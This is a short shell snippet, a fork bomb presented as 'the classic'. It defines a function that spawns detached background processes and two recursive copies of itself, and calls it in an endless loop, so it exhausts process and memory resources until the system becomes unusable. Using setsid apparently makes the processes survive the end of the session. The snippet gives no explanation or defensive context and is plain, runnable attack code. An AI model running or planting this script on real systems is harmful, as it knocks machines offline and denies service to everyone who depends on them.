# The classic: every copy starts two more, in a session of its own.
bomb() { setsid sh -c 'sleep 1000' & bomb | bomb & }
while :; do bomb; done
